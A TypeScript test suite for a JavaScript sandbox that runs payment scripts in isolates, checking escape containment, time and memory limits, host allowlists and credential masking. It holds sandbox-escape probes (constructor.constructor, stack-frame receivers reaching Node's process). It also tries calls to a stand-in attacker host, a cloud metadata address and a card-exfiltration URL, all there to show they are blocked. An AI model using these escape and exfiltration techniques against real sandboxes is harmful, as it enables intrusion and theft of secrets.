import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, it, type TestContext } from 'node:test';
import { Redactor } from './redaction.js';
import { Sandbox, ScriptCheckError, type SandboxOptions, type StepReport, type StepRequest } from './sandbox.js';

// Real isolates and real local HTTP servers: nothing here is mocked.

interface Seen {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

type Handler = (req: http.IncomingMessage, res: http.ServerResponse, body: string) => void;

interface TestServer {
  port: number;
  origin: string;
  /** "127.0.0.1:port", as an allowedHosts entry. */
  host: string;
  seen: Seen[];
}

async function startServer(t: TestContext, handler: Handler = jsonOk): Promise<TestServer> {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      handler(req, res, body);
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  t.after(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });
  const { port } = server.address() as AddressInfo;
  return { port, origin: `http://127.0.0.1:${port}`, host: `127.0.0.1:${port}`, seen };
}

function jsonOk(_req: http.IncomingMessage, res: http.ServerResponse): void {
  res.writeHead(200, { 'content-type': 'application/json', 'x-psp': 'mock' });
  res.end(JSON.stringify({ status: 'ok' }));
}

function sandbox(t: TestContext, options: SandboxOptions = {}): Sandbox {
  const box = new Sandbox({ heapMb: 32, timeoutMs: 3_000, maxIsolates: 2, httpTimeoutMs: 2_000, ...options });
  t.after(() => box.close());
  return box;
}

function run(box: Sandbox, script: string, request: Partial<StepRequest> = {}): Promise<StepReport> {
  return box.run({
    scriptName: 'test-flow@1',
    script,
    step: 'initiate',
    ctx: {},
    egress: { allowedHosts: [], hostMap: {} },
    redactor: new Redactor([]),
    ...request,
  });
}

function assertFailure(report: StepReport, kind: string, message?: RegExp): void {
  assert.equal(report.ok, false, `expected a ${kind} failure, got ${JSON.stringify(report.value)}`);
  assert.equal(report.value, null);
  assert.equal(report.failure?.kind, kind, `failure: ${JSON.stringify(report.failure)}`);
  if (message !== undefined) assert.match(report.failure.message, message);
}

/** Counts event-loop turns while `work` runs: a blocked host would count (almost) none. */
async function withTicker<T>(work: () => Promise<T>): Promise<{ result: T; ticks: number; elapsed: number }> {
  let ticks = 0;
  const ticker = setInterval(() => (ticks += 1), 10);
  const started = Date.now();
  try {
    const result = await work();
    return { result, ticks, elapsed: Date.now() - started };
  } finally {
    clearInterval(ticker);
  }
}

async function waitFor(condition: () => boolean, ms: number): Promise<void> {
  const until = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > until) throw new Error(`condition not met within ${ms} ms`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/**
 * Each probe answers typeof what it reached (for an object, typeof its `pid`, so that reaching
 * Node's process shows as "number"), or "threw <ErrorName>".
 */
const probeSource = `
const probe = (fn) => {
  try {
    const value = fn();
    return value !== null && typeof value === 'object' ? 'object with pid: ' + typeof value.pid : typeof value;
  } catch (err) {
    return 'threw ' + (err && err.name);
  }
};
const probes = (self, ctx, sdk) => ({
  thisConstructor: probe(() => self.constructor.constructor('return process')()),
  objectConstructor: probe(() => ({}).constructor.constructor('return process')()),
  functionThis: probe(() => Function('return this')().process),
  globalConstructor: probe(() => globalThis.constructor.constructor('return process')()),
  ctxConstructor: probe(() => ctx.constructor.constructor('return process')()),
  sdkFunction: probe(() => sdk.http.get.constructor('return process')()),
  loggerFunction: probe(() => sdk.logger.info.constructor('return typeof process')() === 'object' ? {} : undefined),
  globalProcess: probe(() => globalThis.process),
  require: probe(() => require),
  module: probe(() => module),
  exports: probe(() => exports),
  metaRequire: probe(() => import.meta.require),
  metaResolve: probe(() => import.meta.resolve),
  metaUrl: probe(() => import.meta.url),
  buffer: probe(() => Buffer),
  // The classic vm escape: a stack frame's receiver from outside the sandbox.
  stackFrames: probe(() => {
    const saved = Error.prepareStackTrace;
    Error.prepareStackTrace = (_, frames) => frames;
    try {
      const frames = new Error('probe').stack;
      if (!Array.isArray(frames)) return undefined;
      for (const frame of frames) {
        const receiver = frame.getThis();
        if (receiver && receiver.process) return receiver.process;
      }
      return undefined;
    } finally {
      Error.prepareStackTrace = saved;
    }
  }),
});
`;

function assertNoProcess(found: Record<string, string>): void {
  for (const [name, outcome] of Object.entries(found)) {
    assert.ok(outcome === 'undefined' || outcome.startsWith('threw '), `${name} reached something: ${outcome}`);
  }
}

describe('Sandbox: escapes are contained', () => {
  it('does not reach Node through constructors, globals or import.meta, at the top level or in a step', async (t) => {
    const box = sandbox(t);
    const report = await run(
      box,
      `${probeSource}
      const top = probes(this, {}, { http: { get() {} }, logger: { info() {} } });
      export async function initiate(ctx, sdk) {
        return { top, step: probes(this, ctx, sdk) };
      }`,
      { ctx: { amount: 1 } },
    );
    assert.equal(report.ok, true, JSON.stringify(report.failure));
    const value = report.value as { top: Record<string, string>; step: Record<string, string> };
    assertNoProcess(value.top);
    assertNoProcess(value.step);
    // The telling ones: constructors lead to the context's own Function, where process is undeclared.
    assert.equal(value.step.objectConstructor, 'threw ReferenceError');
    assert.equal(value.step.ctxConstructor, 'threw ReferenceError');
    assert.equal(value.step.sdkFunction, 'threw ReferenceError');
    assert.equal(value.step.functionThis, 'undefined');
  });

  it('fails the run cleanly when a step uses process through an escape attempt', async (t) => {
    const box = sandbox(t);
    for (const expression of [
      '({}).constructor.constructor("return process")().exit(1)',
      'this.constructor.constructor("return process")().exit(1)',
      'Function("return this")().process.exit(1)',
      'sdk.logger.info.constructor("return process")().mainModule.require("fs")',
    ]) {
      const report = await run(box, `export async function initiate(ctx, sdk) { return ${expression}; }`);
      assertFailure(report, 'script_error', /^(ReferenceError|TypeError): /);
    }
  });

  it('refuses dynamic imports at run time and static imports at compile time', async (t) => {
    const box = sandbox(t);
    const dynamic = await run(box, 'export async function initiate() { const fs = await import("node:fs"); return typeof fs.readFileSync; }');
    assertFailure(dynamic, 'script_error');

    const nodeFs = await run(box, 'import fs from "node:fs";\nexport async function initiate() { return typeof fs; }');
    assertFailure(nodeFs, 'compile_error', /"node:fs"/);

    const remote = await run(box, 'import x from "https://evil/x.js";\nexport async function initiate() { return x; }');
    assertFailure(remote, 'compile_error', /"https:\/\/evil\/x\.js"/);

    const child = await run(box, 'import { exec } from "child_process";\nexport async function initiate() { return typeof exec; }');
    assertFailure(child, 'compile_error', /"child_process"/);

    // The one module that is provided still links.
    const std = await run(
      box,
      'import { crypto } from "jsr:@std/crypto";\nexport async function initiate() { return typeof crypto; }',
    );
    assert.equal(std.ok, true, JSON.stringify(std.failure));
    assert.equal(std.value, 'object');
  });

  it('links a script to its target’s shared modules, one instance per run, and nothing else by a relative path', async (t) => {
    const box = sandbox(t);
    const modules = {
      './common.js':
        'import { crypto } from "jsr:@std/crypto";\nimport { unit } from "./units.js";\nexport let calls = 0;\n' +
        'export function md5Length() { calls += 1; return typeof crypto.subtle.digest + unit; }',
      './units.js': 'export const unit = "!";',
    };
    const script =
      'import { md5Length, calls } from "./common.js";\nimport * as again from "./common.js";\n' +
      'export async function initiate() { md5Length(); again.md5Length(); return [md5Length(), calls]; }';
    const first = await run(box, script, { modules });
    assert.equal(first.ok, true, JSON.stringify(first.failure));
    assert.deepEqual(first.value, ['function!', 3]);
    // A fresh module graph per run: the counter starts over.
    assert.deepEqual((await run(box, script, { modules })).value, ['function!', 3]);
    assert.deepEqual(await box.check(script, modules), ['initiate']);

    const unknown = await run(box, 'import { x } from "./other.js";\nexport async function initiate() { return x; }', { modules });
    assertFailure(unknown, 'compile_error', /"\.\/other\.js"/);
    const nested = await run(box, script, { modules: { './common.js': 'import fs from "node:fs";\nexport const md5Length = () => fs;' } });
    assertFailure(nested, 'compile_error', /"node:fs"/);
    const broken = await run(box, script, { modules: { './common.js': 'export function (' } });
    assertFailure(broken, 'compile_error');
    await assert.rejects(box.check(script), ScriptCheckError);
  });

  it('hides the host references and keeps the entry point out of the script’s reach', async (t) => {
    const box = sandbox(t);
    const report = await run(
      box,
      `let hijack = 'not tried';
      try {
        globalThis.__connxtRun = async () => ({ value: 'hijacked' });
        hijack = 'assigned';
      } catch (err) {
        hijack = err.name;
      }
      export async function initiate() {
        return {
          call: typeof globalThis.__connxtCall,
          await: typeof __connxtAwait,
          names: Object.getOwnPropertyNames(globalThis),
          hijack,
        };
      }`,
    );
    assert.equal(report.ok, true, JSON.stringify(report.failure));
    const value = report.value as { call: string; await: string; names: string[]; hijack: string };
    assert.equal(value.call, 'undefined');
    assert.equal(value.await, 'undefined');
    assert.ok(!value.names.includes('__connxtCall'), value.names.join(','));
    assert.ok(!value.names.includes('__connxtAwait'), value.names.join(','));
    assert.ok(!value.names.includes('process') && !value.names.includes('require'), value.names.join(','));
    // Modules are strict: assigning the read-only entry point throws, and the step still ran.
    assert.equal(value.hijack, 'TypeError');
  });

  it('does not let one run’s globals or prototypes leak into the next', async (t) => {
    const box = sandbox(t, { maxIsolates: 1 });
    const first = await run(
      box,
      `globalThis.leak = 42;
      Array.prototype.polluted = 'yes';
      Object.prototype.polluted = 'yes';
      JSON.stringify = () => '"tampered"';
      export async function initiate() { return globalThis.leak; }`,
    );
    assert.equal(first.ok, true, JSON.stringify(first.failure));
    const second = await run(
      box,
      `export async function initiate() {
        return [typeof globalThis.leak, typeof [].polluted, typeof ({}).polluted, JSON.stringify({ a: 1 })];
      }`,
    );
    assert.deepEqual(second.value, ['undefined', 'undefined', 'undefined', '{"a":1}']);
    assert.equal(box.poolSize.alive, 1);
  });
});

describe('Sandbox: time and memory limits', () => {
  it('stops a synchronous infinite loop in a step, without blocking the host', async (t) => {
    const box = sandbox(t, { timeoutMs: 1_000 });
    const { result, ticks, elapsed } = await withTicker(() => run(box, 'export async function initiate() { for (;;) {} }'));
    assertFailure(result, 'timeout');
    assert.ok(elapsed >= 900 && elapsed < 2_000, `elapsed ${elapsed} ms`);
    assert.ok(ticks >= 20, `the host event loop turned only ${ticks} times in ${elapsed} ms`);
    // The killed isolate is discarded, not kept busy or leaked.
    await waitFor(() => box.poolSize.alive === box.poolSize.idle, 2_000);
    assert.equal((await run(box, 'export async function initiate() { return 1; }')).value, 1);
  });

  it('stops a synchronous infinite loop at the module top level, without blocking the host', async (t) => {
    const box = sandbox(t, { timeoutMs: 1_000 });
    const { result, ticks, elapsed } = await withTicker(() =>
      run(box, 'for (;;) {}\nexport async function initiate() { return 1; }'),
    );
    assertFailure(result, 'timeout');
    assert.ok(elapsed >= 900 && elapsed < 2_000, `elapsed ${elapsed} ms`);
    assert.ok(ticks >= 20, `the host event loop turned only ${ticks} times in ${elapsed} ms`);
  });

  it('stops an await loop and a promise that never settles', async (t) => {
    const box = sandbox(t, { timeoutMs: 400 });
    for (const body of ['for (;;) await null;', 'await new Promise(() => {});', 'for (;;) await Promise.resolve(1);']) {
      const started = Date.now();
      const report = await run(box, `export async function initiate() { ${body} }`);
      assertFailure(report, 'timeout');
      assert.ok(Date.now() - started < 1_400, `${body} took ${Date.now() - started} ms`);
    }
    const topLevel = await run(box, 'for (;;) await null;\nexport async function initiate() { return 1; }');
    assertFailure(topLevel, 'timeout');
    // Every killed isolate was discarded: none is left busy, and runs still get an isolate.
    await waitFor(() => box.poolSize.alive === box.poolSize.idle, 2_000);
    assert.equal((await run(box, 'export async function initiate() { return 1; }')).value, 1);
    assert.ok(box.poolSize.alive <= 2, JSON.stringify(box.poolSize));
  });

  it('answers by the deadline even inside a builtin V8 cannot interrupt, and frees the isolate later', async (t) => {
    // lastIndexOf over a 2^28-long array-like walks every index in C++ without checking for
    // termination (~2 s of CPU here): killing the isolate does not stop it.
    const box = sandbox(t, { timeoutMs: 200, maxIsolates: 2 });
    const started = Date.now();
    const report = await run(box, 'export async function initiate() { return Array.prototype.lastIndexOf.call({ length: 2 ** 28 }, 1); }');
    const elapsed = Date.now() - started;
    assertFailure(report, 'timeout');
    assert.ok(elapsed < 800, `the report took ${elapsed} ms with a 200 ms limit`);
    // Meanwhile the sandbox still serves runs, within maxIsolates.
    const next = await run(box, 'export async function initiate() { return "still serving"; }');
    assert.equal(next.value, 'still serving');
    assert.ok(box.poolSize.alive <= 2, JSON.stringify(box.poolSize));
    // The killed isolate's slot comes back (is discarded) once its thread is really free.
    await waitFor(() => box.poolSize.alive === box.poolSize.idle, 30_000);
  });

  it('kills a run that allocates ~200 MB with heapMb 32, and the next run succeeds', async (t) => {
    const box = sandbox(t, { heapMb: 32, timeoutMs: 5_000, maxIsolates: 2 });
    // 25,000 arrays of 1,000 numbers: ~200 MB in 8 KB pieces. Not one big array: V8 answers a
    // single allocation far past the heap limit by aborting the whole process (isolated-vm #107),
    // and `new Array(50e6).fill(1.5)` runs on for ~45 s and ~4 GB after its limit.
    const report = await run(
      box,
      `export async function initiate() {
        const chunks = [];
        for (let i = 0; i < 25000; i++) chunks.push(new Array(1000).fill(i));
        return chunks.length;
      }`,
    );
    assertFailure(report, 'memory', /memory limit/);
    assert.ok(box.poolSize.alive <= 2, JSON.stringify(box.poolSize));
    const next = await run(box, 'export async function initiate() { return [1, 2, 3].map((n) => n * 2); }');
    assert.equal(next.ok, true, JSON.stringify(next.failure));
    assert.deepEqual(next.value, [2, 4, 6]);
    assert.ok(box.poolSize.alive <= 2, JSON.stringify(box.poolSize));
  });

  it('reports a memory kill at the top level too', async (t) => {
    const box = sandbox(t, { heapMb: 32, timeoutMs: 5_000, maxIsolates: 1 });
    const report = await run(
      box,
      'const keep = [];\nfor (;;) keep.push({ n: keep.length, s: "x" + keep.length });\nexport async function initiate() { return 1; }',
    );
    assertFailure(report, 'memory');
    const next = await run(box, 'export async function initiate() { return "ok"; }');
    assert.equal(next.value, 'ok');
    assert.equal(box.poolSize.alive, 1);
  });
});

describe('Sandbox: HTTP limits and egress', () => {
  it('rejects a 50 MB response with maxResponseBytes 1 MiB, without buffering it', async (t) => {
    const chunk = Buffer.alloc(64 * 1024, 'a');
    const target = 50 * 1024 * 1024;
    let sent = 0;
    const server = await startServer(t, (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' });
      // Respects backpressure, so that neither side of this process holds the 50 MB.
      const pump = () => {
        while (sent < target && !res.destroyed) {
          sent += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.end();
      };
      pump();
    });
    const box = sandbox(t, { maxResponseBytes: 1024 * 1024 });
    const egress = { allowedHosts: [server.host], hostMap: {} };
    await run(box, 'export async function initiate() { return 1; }'); // warm: the isolate exists before measuring

    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
    t.after(() => clearInterval(sampler));
    const caught = await run(
      box,
      `export async function initiate(ctx, sdk) {
        try {
          await sdk.http.get(ctx.url);
          return 'no error';
        } catch (err) {
          return err.message;
        }
      }`,
      { ctx: { url: `${server.origin}/big` }, egress },
    );
    clearInterval(sampler);
    assert.equal(caught.ok, true, JSON.stringify(caught.failure));
    assert.match(String(caught.value), /exceeds 1048576 bytes/);
    assert.ok(peak - before < 35 * 1024 * 1024, `RSS grew by ${Math.round((peak - before) / 1024 / 1024)} MB`);
    assert.ok(sent < target, `the server sent all ${sent} bytes: the read was not cut short`);
    const exchange = caught.meta.http['0'];
    assert.ok(exchange);
    assert.equal(exchange.response, null);
    assert.match(exchange.error ?? '', /exceeds/);

    const uncaught = await run(box, 'export async function initiate(ctx, sdk) { return (await sdk.http.get(ctx.url)).status; }', {
      ctx: { url: `${server.origin}/big` },
      egress,
    });
    assertFailure(uncaught, 'script_error', /exceeds/);
    assert.equal(uncaught.reachedServer, true);
  });

  it('refuses hosts outside allowedHosts before connecting, naming the host', async (t) => {
    const server = await startServer(t);
    const box = sandbox(t);
    const attempt = `export async function initiate(ctx, sdk) {
      try {
        await sdk.http.get(ctx.url);
        return 'reached';
      } catch (err) {
        return err.message;
      }
    }`;
    const cases = [
      { url: `${server.origin}/pay`, names: server.host },
      { url: 'http://169.254.169.254/latest/meta-data/', names: '169.254.169.254' },
      { url: 'https://evil.example.net/collect?card=1', names: 'evil.example.net' },
      { url: `http://localhost:${server.port}/pay`, names: `localhost:${server.port}` },
    ];
    for (const { url, names } of cases) {
      const report = await run(box, attempt, { ctx: { url }, egress: { allowedHosts: ['api.example.com'], hostMap: {} } });
      assert.equal(report.ok, true, JSON.stringify(report.failure));
      assert.match(String(report.value), /allowedHosts/);
      assert.ok(String(report.value).includes(names), `${url}: ${String(report.value)}`);
      assert.equal(report.reachedServer, false);
    }
    assert.equal(server.seen.length, 0);

    const uncaught = await run(box, 'export async function initiate(ctx, sdk) { await sdk.http.post(ctx.url, { body: {} }); }', {
      ctx: { url: `${server.origin}/pay` },
      egress: { allowedHosts: ['api.example.com'], hostMap: {} },
    });
    assertFailure(uncaught, 'script_error', new RegExp(server.host.replace(/\./g, '\\.')));
    assert.equal(server.seen.length, 0);
  });

  it('calls an allowed host and records the exchange in meta.http', async (t) => {
    const server = await startServer(t);
    const box = sandbox(t);
    const url = `${server.origin}/v1/charges?ref=42`;
    const report = await run(
      box,
      `export async function initiate(ctx, sdk) {
        const res = await sdk.http.post(ctx.url, { headers: { 'X-Request-Id': 'r-1' }, body: { amount: 1000, currency: 'EUR' } });
        return { success: res.success, status: res.status, data: res.data, header: res.headers['x-psp'] };
      }`,
      { ctx: { url }, egress: { allowedHosts: [server.host], hostMap: {} } },
    );
    assert.equal(report.ok, true, JSON.stringify(report.failure));
    assert.deepEqual(report.value, { success: true, status: 200, data: { status: 'ok' }, header: 'mock' });
    assert.equal(report.reachedServer, true);
    assert.equal(server.seen.length, 1);
    assert.equal(server.seen[0]?.url, '/v1/charges?ref=42');
    assert.deepEqual(JSON.parse(server.seen[0]?.body ?? ''), { amount: 1000, currency: 'EUR' });

    assert.deepEqual(Object.keys(report.meta.http), ['0']);
    const exchange = report.meta.http['0'];
    assert.ok(exchange);
    assert.equal(exchange.request.url, url);
    assert.equal(exchange.request.method, 'POST');
    assert.equal(exchange.request.headers['X-Request-Id'], 'r-1');
    assert.equal(exchange.request.headers['content-type'], 'application/json');
    assert.deepEqual(exchange.request.data, { amount: 1000, currency: 'EUR' });
    assert.equal(exchange.response?.status, 200);
    assert.equal(exchange.response?.headers['x-psp'], 'mock');
    assert.deepEqual(exchange.response?.data, { status: 'ok' });
    assert.equal(typeof exchange.duration, 'number');
    assert.ok(exchange.duration >= 0);
    assert.ok(!('reached' in exchange), 'the internal reached flag is not part of meta.http');
  });

  it('maps a production origin onto a local server, keeping the path and recording the script’s URL', async (t) => {
    const server = await startServer(t);
    const box = sandbox(t);
    const url = 'https://api.example.com/v1/payments/abc?expand=true';
    const report = await run(box, 'export async function initiate(ctx, sdk) { return (await sdk.http.get(ctx.url)).data; }', {
      ctx: { url },
      egress: { allowedHosts: ['api.example.com'], hostMap: { 'https://api.example.com': `${server.origin}/mock` } },
    });
    assert.equal(report.ok, true, JSON.stringify(report.failure));
    assert.deepEqual(report.value, { status: 'ok' });
    assert.equal(server.seen.length, 1);
    assert.equal(server.seen[0]?.url, '/mock/v1/payments/abc?expand=true');
    assert.equal(report.meta.http['0']?.request.url, url);
  });

  it('rejects the call past maxHttpCalls without sending it', async (t) => {
    const server = await startServer(t);
    const box = sandbox(t, { maxHttpCalls: 3 });
    const report = await run(
      box,
      `export async function initiate(ctx, sdk) {
        const outcomes = [];
        for (let i = 0; i < 4; i++) {
          try {
            outcomes.push((await sdk.http.get(ctx.url + '?n=' + i)).status);
          } catch (err) {
            outcomes.push(err.message);
          }
        }
        return outcomes;
      }`,
      { ctx: { url: `${server.origin}/poll` }, egress: { allowedHosts: [server.host], hostMap: {} } },
    );
    assert.equal(report.ok, true, JSON.stringify(report.failure));
    const outcomes = report.value as unknown[];
    assert.deepEqual(outcomes.slice(0, 3), [200, 200, 200]);
    assert.match(String(outcomes[3]), /at most 3 calls/);
    assert.equal(server.seen.length, 3);
    assert.equal(Object.keys(report.meta.http).length, 3);
  });

  it('overlaps concurrent runs that await HTTP, within maxIsolates', async (t) => {
    let inFlight = 0;
    let maxInFlight = 0;
    const server = await startServer(t, (_req, res) => {
      inFlight += 1;
      maxInFlight = Math.max(maxInFlight, inFlight);
      setTimeout(() => {
        inFlight -= 1;
        jsonOk(_req, res);
      }, 100);
    });
    const box = sandbox(t, { maxIsolates: 4 });
    let maxAlive = 0;
    const sampler = setInterval(() => (maxAlive = Math.max(maxAlive, box.poolSize.alive)), 5);
    t.after(() => clearInterval(sampler));
    const started = Date.now();
    const reports = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        run(box, 'export async function initiate(ctx, sdk) { return { i: ctx.i, status: (await sdk.http.get(ctx.url)).status }; }', {
          ctx: { i, url: `${server.origin}/slow` },
          egress: { allowedHosts: [server.host], hostMap: {} },
        }),
      ),
    );
    const elapsed = Date.now() - started;
    clearInterval(sampler);
    reports.forEach((report, i) => {
      assert.equal(report.ok, true, JSON.stringify(report.failure));
      assert.deepEqual(report.value, { i, status: 200 });
    });
    assert.equal(server.seen.length, 20);
    assert.ok(elapsed < 20 * 100, `20 runs took ${elapsed} ms: they did not overlap`);
    assert.ok(maxInFlight >= 2 && maxInFlight <= 4, `max in flight ${maxInFlight}`);
    assert.ok(maxAlive <= 4 && box.poolSize.alive <= 4, `max alive ${maxAlive}`);
  });
});

describe('Sandbox: results, logs and redaction', () => {
  it('fails steps whose result is not JSON, that are missing, or that throw', async (t) => {
    const box = sandbox(t);
    const fn = await run(box, 'export async function initiate() { return () => 1; }');
    assertFailure(fn, 'invalid_result', /not JSON/);
    const cyclic = await run(box, 'export async function initiate() { const a = {}; a.self = a; return a; }');
    assertFailure(cyclic, 'invalid_result', /not JSON/);
    const big = await run(box, 'export async function initiate() { return 1n; }');
    assertFailure(big, 'invalid_result', /not JSON/);

    const missing = await run(box, 'export async function status() { return 1; }');
    assertFailure(missing, 'missing_step', /"initiate"/);
    const notFunction = await run(box, 'export const initiate = 5;');
    assertFailure(notFunction, 'missing_step');

    const thrown = await run(box, 'export async function initiate(ctx) { return ctx.card.number; }');
    assertFailure(thrown, 'script_error', /^TypeError: Cannot read properties of undefined/);
    const custom = await run(box, 'export async function initiate() { throw new RangeError("amount out of range"); }');
    assertFailure(custom, 'script_error', /^RangeError: amount out of range$/);
    const nonError = await run(box, 'export async function initiate() { throw { code: 7 }; }');
    assertFailure(nonError, 'script_error', /code/);

    const ok = await run(box, 'export async function initiate(ctx, sdk) { return sdk.response.success({ id: ctx.id }); }', {
      ctx: { id: 'tx_1' },
    });
    assert.deepEqual(ok.value, { __type: 'success', data: { id: 'tx_1' } });
    const nothing = await run(box, 'export async function initiate() {}');
    assert.equal(nothing.ok, true);
    assert.equal(nothing.value, null);
  });

  it('records logs in the documented shape and caps them at 200', async (t) => {
    const box = sandbox(t);
    const report = await run(
      box,
      `export async function initiate(ctx, sdk) {
        sdk.logger.info('a', { b: 1 });
        sdk.logger.warn('careful');
        sdk.logger.error(new TypeError('bad'));
        for (let i = 0; i < 300; i++) sdk.logger.debug('line', i);
        return 'done';
      }`,
    );
    assert.equal(report.ok, true, JSON.stringify(report.failure));
    const first = report.meta.logs['0'];
    assert.ok(first);
    assert.deepEqual({ level: first.level, message: first.message }, { level: 'info', message: 'a {"b":1}' });
    assert.match(first.timestamp, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    assert.ok(Math.abs(Date.parse(first.timestamp) - Date.now()) < 60_000);
    assert.deepEqual(report.meta.logs['1'] && { level: report.meta.logs['1'].level, message: report.meta.logs['1'].message }, {
      level: 'warn',
      message: 'careful',
    });
    assert.equal(report.meta.logs['2']?.message, 'TypeError: bad');
    assert.equal(report.meta.logs['3']?.message, 'line 0');
    const keys = Object.keys(report.meta.logs);
    assert.equal(keys.length, 200);
    assert.equal(keys[199], '199');
  });

  it('keeps only the truncated text of long log lines, not the whole string', async (t) => {
    // Each line crosses to the host whole and is cut to 8,192 characters there; a cut that kept
    // the original alive (slice() does) would hold 60 × 10 MB until the run ends.
    const box = sandbox(t, { heapMb: 64, maxHttpCalls: 100 });
    const before = process.memoryUsage().heapUsed;
    let peak = before;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().heapUsed)), 2);
    t.after(() => clearInterval(sampler));
    const report = await run(
      box,
      `export async function initiate(ctx, sdk) {
        const line = 'x'.repeat(1e7) + 'y';
        for (let i = 0; i < 60; i++) {
          sdk.logger.info(line);
          // A host round trip, so that the host takes each line in before the next is sent.
          await sdk.http.get('https://not-allowed.example/').catch(() => null);
        }
        return 'logged';
      }`,
    );
    clearInterval(sampler);
    assert.equal(report.ok, true, JSON.stringify(report.failure));
    assert.equal(Object.keys(report.meta.logs).length, 60);
    assert.equal(report.meta.logs['0']?.message, `${'x'.repeat(8_192)}…`);
    const grewMb = Math.round((peak - before) / 1024 / 1024);
    assert.ok(grewMb < 200, `the host heap grew by ${grewMb} MB while the run logged`);
  });

  it('masks the credential in logs, request headers and bodies, responses and failure messages', async (t) => {
    const secret = 'sk_live_abcdef123456';
    const server = await startServer(t, (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ echoed: secret }));
    });
    const box = sandbox(t);
    const report = await run(
      box,
      `export async function initiate(ctx, sdk) {
        sdk.logger.info('using key ' + ctx.apiKey, { key: ctx.apiKey });
        const res = await sdk.http.post(ctx.url, {
          headers: { 'X-Merchant': ctx.apiKey, Authorization: 'Bearer ' + ctx.apiKey },
          body: { merchant: ctx.apiKey, amount: 5 },
        });
        sdk.logger.info('psp said', res.data);
        throw new Error('declined for ' + ctx.apiKey);
      }`,
      {
        ctx: { apiKey: secret, url: `${server.origin}/charge` },
        egress: { allowedHosts: [server.host], hostMap: {} },
        redactor: Redactor.fromCredential({ apiKey: secret }),
      },
    );
    // The PSP got the real key: redaction applies to the report only.
    assert.equal(server.seen[0]?.headers['x-merchant'], secret);
    assert.equal(JSON.parse(server.seen[0]?.body ?? '{}').merchant, secret);

    assertFailure(report, 'script_error', /^Error: declined for \*\*\*$/);
    assert.ok(!JSON.stringify(report).includes(secret), JSON.stringify(report));
    assert.ok(!JSON.stringify(report).includes('abcdef123456'));
    assert.match(report.meta.logs['0']?.message ?? '', /using key \*\*\*/);
    assert.match(report.meta.logs['1']?.message ?? '', /\*\*\*/);
    const exchange = report.meta.http['0'];
    assert.ok(exchange);
    assert.equal(exchange.request.headers['X-Merchant'], '***');
    assert.equal(exchange.request.headers.Authorization, '***');
    assert.deepEqual(exchange.request.data, { merchant: '***', amount: 5 });
    assert.deepEqual(exchange.response?.data, { echoed: '***' });
  });

  it('masks the credential in a successful step’s value', async (t) => {
    const box = sandbox(t);
    const report = await run(box, 'export async function initiate(ctx) { return { note: "key=" + ctx.k, raw: ctx.k }; }', {
      ctx: { k: 'sk_live_abcdef123456' },
      redactor: Redactor.fromCredential({ apiKey: 'sk_live_abcdef123456' }),
    });
    assert.equal(report.ok, true);
    assert.ok(!JSON.stringify(report.value).includes('sk_live_abcdef123456'), JSON.stringify(report.value));
  });
});

describe('Sandbox.close', () => {
  it('rejects runs still waiting for an isolate instead of leaving them pending', async () => {
    const box = new Sandbox({ heapMb: 32, timeoutMs: 3_000, maxIsolates: 1 });
    const busy = run(box, 'export async function initiate() { const until = Date.now() + 200; while (Date.now() < until); return "done"; }');
    await waitFor(() => box.poolSize.alive === 1, 2_000);
    const queued = run(box, 'export async function initiate() { return "queued"; }');
    const queuedOutcome = queued.then(
      (report) => `resolved ${JSON.stringify(report.value)}`,
      (err: unknown) => `rejected: ${err instanceof Error ? err.message : String(err)}`,
    );
    assert.equal(box.poolSize.waiting, 1);
    box.close();
    // The run in progress still completes.
    assert.equal((await busy).value, 'done');
    const outcome = await Promise.race([queuedOutcome, new Promise((resolve) => setTimeout(() => resolve('still pending'), 2_000))]);
    assert.equal(outcome, 'rejected: the sandbox is closed');
    assert.deepEqual(box.poolSize, { alive: 0, idle: 0, waiting: 0 });
    await assert.rejects(run(box, 'export async function initiate() {}'), /closed/);
  });
});

describe('Sandbox.check', () => {
  it('answers the exported step names', async (t) => {
    const box = sandbox(t);
    const names = await box.check(
      'export async function initiate() {}\nexport async function status() {}\nexport const version = 2;\nfunction helper() {}',
    );
    assert.deepEqual([...names].sort(), ['initiate', 'status']);
  });

  it('throws ScriptCheckError for broken scripts', async (t) => {
    const box = sandbox(t);
    await assert.rejects(box.check('export async function initiate( {'), (err: unknown) => {
      assert.ok(err instanceof ScriptCheckError);
      assert.match(err.message, /SyntaxError/);
      return true;
    });
    await assert.rejects(box.check('import fs from "node:fs";\nexport async function initiate() {}'), (err: unknown) => {
      assert.ok(err instanceof ScriptCheckError);
      assert.match(err.message, /"node:fs"/);
      return true;
    });
    await assert.rejects(box.check('throw new TypeError("top level");\nexport async function initiate() {}'), (err: unknown) => {
      assert.ok(err instanceof ScriptCheckError);
      assert.match(err.message, /TypeError: top level/);
      return true;
    });
    const started = Date.now();
    await assert.rejects(box.check('for (;;) {}\nexport async function initiate() {}'), ScriptCheckError);
    assert.ok(Date.now() - started < 4_000);
    // The sandbox is still usable afterwards.
    assert.deepEqual(await box.check('export function webhook() {}'), ['webhook']);
  });
});
